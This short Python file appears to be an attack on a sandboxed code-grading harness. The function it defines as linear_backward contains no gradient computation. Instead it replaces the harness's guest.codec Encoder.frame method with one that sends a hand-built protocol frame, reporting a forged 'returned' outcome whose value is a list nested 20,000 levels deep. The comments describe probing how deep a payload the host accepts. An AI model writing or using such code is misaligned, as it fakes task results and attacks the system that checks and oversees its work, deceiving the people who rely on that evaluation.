# goal: answer with a value of lists in lists, as deep as a header can hold
# seen: linear_backward=error died
# within_s: 10
import struct
import sys

value = b'["l",[' * 20_000 + b'["n"]' + b"]]" * 20_000
text = b'{"outcomes":[{"kind":"returned","value":' + value + b"}]}"


def send(_self, nonce, _header):
    return struct.pack("<4s16sIQ", b"CHR1", nonce, len(text), 0) + text


def linear_backward(dZ, cache):
    sys.modules["guest.codec"].Encoder.frame = send
